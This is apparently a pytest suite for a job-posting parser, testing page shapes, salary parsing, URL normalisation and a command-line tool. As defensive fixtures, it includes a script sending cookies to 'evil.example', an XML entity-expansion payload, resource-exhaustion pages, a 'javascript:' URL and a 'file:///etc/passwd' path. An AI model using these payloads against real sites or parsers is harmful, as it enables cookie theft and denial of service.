"""The job posting parser: every saved page shape, hostile input, addresses, the command."""

from __future__ import annotations

import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from tracker.capture import normalise_url, parse_posting, posting_key
from tracker.capture.urls import key_token
from tracker.capture.values import find_salary, parse_amount

from .capture_corpus import FIXTURES, field_results, fixtures

CORPUS = fixtures()


@pytest.mark.parametrize("fixture", CORPUS, ids=[f.name for f in CORPUS])
def test_each_saved_page_shape_parses_to_its_expected_fields(fixture):
    """Guards every shape of the corpus (Greenhouse, Lever, Ashby, Workday, LinkedIn,
    Indeed, microdata, Open Graph, text) field by field."""
    parsed = parse_posting(fixture.page, url=fixture.url).as_json()
    misses = {name: ok for name, ok in field_results(fixture, parsed).items() if not ok}
    assert not misses, (fixture.shape, misses, parsed)


def test_corpus_covers_every_board_and_source():
    names = " ".join(f.name for f in CORPUS)
    for board in ("greenhouse", "lever", "ashby", "workday", "linkedin", "indeed"):
        assert board in names
    assert {f.expected["source"] for f in CORPUS} == {"jsonld", "microdata", "opengraph", "text"}


def test_graph_references_and_type_lists_are_followed():
    page = """<script type="application/ld+json">{"@graph": [
      {"@type": "Organization", "@id": "#org", "name": "Acme"},
      {"@type": ["JobPosting"], "title": "Welder", "hiringOrganization": {"@id": "#org"},
       "jobLocation": {"@type": "Place", "address": {"addressLocality": "Tulsa, OK", "addressRegion": "OK"}}}
    ]}</script>"""
    posting = parse_posting(page)
    assert (posting.title, posting.company, posting.location) == ("Welder", "Acme", "Tulsa, OK")
    assert posting.source == "jsonld"


def test_broken_json_ld_falls_back_to_open_graph_and_text():
    page = """<html><head><meta property="og:title" content="Baker | Crumb Co">
    <meta property="og:site_name" content="Crumb Co">
    <script type="application/ld+json">{"@type": "JobPosting", "title": </script></head>
    <body><h1>Baker</h1><p>Location: Leeds</p></body></html>"""
    posting = parse_posting(page)
    assert (posting.title, posting.company, posting.location) == ("Baker", "Crumb Co", "Leeds")
    assert posting.source == "opengraph"


def test_scripts_styles_and_forms_never_reach_the_description():
    page = """<html><body><main><h1>Cook</h1><p>Make soup for 200 guests every day in our kitchen.</p>
    <script>document.location='https://evil.example/?c='+document.cookie</script>
    <style>.x{color:red}</style><form><input value="secret"></form></main></body></html>"""
    posting = parse_posting(page)
    assert "soup" in posting.description
    for leaked in ("document.cookie", "color:red", "secret"):
        assert leaked not in posting.description


@pytest.mark.parametrize(
    "page",
    [
        '<script type="application/ld+json">' + "[" * 100_000 + "]" * 100_000 + "</script>",
        '<script type="application/ld+json">' + '{"a":' * 30_000 + "1" + "}" * 30_000 + "</script>",
        '<script type="application/ld+json">{"@type":"Thing"}</script>' * 3_000,
        '<script type="application/ld+json">{"title": "' + "a" * 1_500_000 + "</script>",
        "<div>" * 50_000 + "deep" + "</div>" * 50_000,
        '<div itemscope itemtype="https://schema.org/JobPosting">'
        + '<div itemscope itemprop="x">' * 2_000
        + "</div>" * 2_001,
        "<h1>Nul\x00 and a lone surrogate \ud800</h1>",
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><h1>&b;&b;</h1>',
        "<p>" + "$1,000 - " * 50_000 + "</p>",
        "",
    ],
    ids=[
        "deep-list",
        "deep-dict",
        "many-blocks",
        "huge-string",
        "deep-html",
        "deep-items",
        "nul-surrogate",
        "entity-expansion",
        "salary-flood",
        "empty",
    ],
)
def test_hostile_pages_are_read_within_bounds(page):
    """Guards the parser's limits: nesting, sizes and counts end in a result, never an
    exception, and no entity is expanded."""
    posting = parse_posting(page)
    data = posting.as_json()
    assert "\x00" not in json.dumps(data)
    assert len(posting.description) <= 50_100
    assert "aaaaaaaaaa" not in posting.title


def test_salary_in_prose_ignores_funding_bonuses_and_budgets():
    assert not find_salary("We raised $25M from great investors.").present
    assert not find_salary("A $1,500 annual learning budget and 401(k).").present
    assert not find_salary("Night shifts earn a $2.00/hour differential.").present
    found = find_salary("Pay: $21.50 - $26.00 per hour, plus a $2.00/hour night differential.")
    assert (found.low, found.high, found.period) == (22, 26, "hour")
    found = find_salary("Salary between €3.400 and €4.200 gross per month.")
    assert (found.low, found.high, found.currency, found.period) == (3400, 4200, "EUR", "month")
    found = find_salary("$120-150k DOE")
    assert (found.low, found.high) == (120_000, 150_000)


def test_amounts_in_local_formats():
    assert parse_amount("120,000.00") == 120_000
    assert parse_amount("120.000") == 120_000
    assert parse_amount("1.234,50") == 1234.5
    assert parse_amount("$95k") == 95_000
    assert parse_amount("48.5") == 48.5
    assert parse_amount(float("nan")) is None
    assert parse_amount("99999999999") is None


def test_plain_text_paste_is_read_as_text():
    posting = parse_posting("Barista\nBean There · Austin, TX · 2 days ago\n\nMake great coffee.")
    assert (posting.title, posting.company, posting.location) == (
        "Barista",
        "Bean There",
        "Austin, TX",
    )
    assert posting.source == "text"


# --- Addresses -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        (
            "HTTPS://Jobs.Lever.co/acme/123/?lever-source=LinkedIn&utm_source=x#apply",
            "https://jobs.lever.co/acme/123",
        ),
        (
            "https://boards.greenhouse.io:443/acme/jobs/42?gh_src=abc&gh_jid=42",
            "https://boards.greenhouse.io/acme/jobs/42?gh_jid=42",
        ),
        ("http://example.com:8080/jobs/", "http://example.com:8080/jobs"),
        ("https://example.com/", "https://example.com/"),
        ("https://[::1]:8000/x", "https://[::1]:8000/x"),
        ("javascript:alert(1)", ""),
        ("ftp://example.com/job", ""),
        ("not a url", ""),
    ],
)
def test_addresses_are_normalised(raw, cleaned):
    assert normalise_url(raw) == cleaned


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (
            "https://www.linkedin.com/jobs/view/senior-engineer-at-acme-3912345678/?trk=x&refId=y",
            "https://linkedin.com/jobs/search/?currentJobId=3912345678&keywords=engineer",
        ),
        (
            "https://www.indeed.com/viewjob?jk=abc123def&from=serp&vjs=3",
            "https://www.indeed.com/rc/clk?jk=abc123def&tk=zz",
        ),
        ("http://Example.com/jobs/42/?utm_campaign=spring", "https://www.example.com/jobs/42"),
        ("https://example.com/jobs?b=2&a=1", "https://example.com/jobs?a=1&b=2"),
    ],
)
def test_one_posting_has_one_key_whatever_the_address_form(one, other):
    assert posting_key(one) == posting_key(other) != ""


def test_different_postings_keep_different_keys():
    assert posting_key("https://example.com/jobs/41") != posting_key("https://example.com/jobs/42")
    assert posting_key("https://a.example/jobs/1") != posting_key("https://b.example/jobs/1")


def test_key_token_is_in_every_stored_form():
    key = posting_key("https://www.linkedin.com/jobs/search/?currentJobId=3912345678")
    assert key_token(key) == "3912345678"


# --- Command line ------------------------------------------------------------------------------


def run_command(*args) -> str:
    out = io.StringIO()
    call_command("job_capture", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_job_capture_command_prints_one_json_object():
    """Guards the command's contract: one JSON object with the documented keys."""
    path = FIXTURES / "linkedin_guest.html"
    url = "https://www.linkedin.com/jobs/view/x-3912345678/?trk=public_jobs&refId=1"
    data = json.loads(run_command("--html", str(path), "--url", url, "--json"))
    assert set(data) >= {
        "title",
        "company",
        "location",
        "remote",
        "salary_min",
        "salary_max",
        "salary_currency",
        "date_posted",
        "deadline",
        "description",
        "source",
    }
    assert data["title"] == "Senior Site Reliability Engineer"
    assert data["company"] == "Contoso Energy"
    assert (data["salary_min"], data["salary_max"], data["salary_currency"]) == (
        155000,
        185000,
        "USD",
    )
    assert (data["date_posted"], data["deadline"], data["source"]) == (
        "2024-05-02",
        "2024-06-01",
        "jsonld",
    )
    assert data["url"] == "https://www.linkedin.com/jobs/view/x-3912345678"


def test_job_capture_command_reads_legacy_encodings(tmp_path):
    page = tmp_path / "page.html"
    page.write_bytes('<meta charset="windows-1252"><h1>Caf\xe9 Manager</h1>'.encode("cp1252"))
    data = json.loads(run_command("--html", str(page), "--json"))
    assert data["title"] == "Café Manager"
    assert data["source"] == "text"


def test_job_capture_command_explains_bad_arguments(tmp_path):
    with pytest.raises(CommandError, match="no such file"):
        run_command("--html", str(tmp_path / "missing.html"))
    page = tmp_path / "page.html"
    page.write_text("<h1>Job</h1>")
    with pytest.raises(CommandError, match="not an http"):
        run_command("--html", str(page), "--url", "file:///etc/passwd")
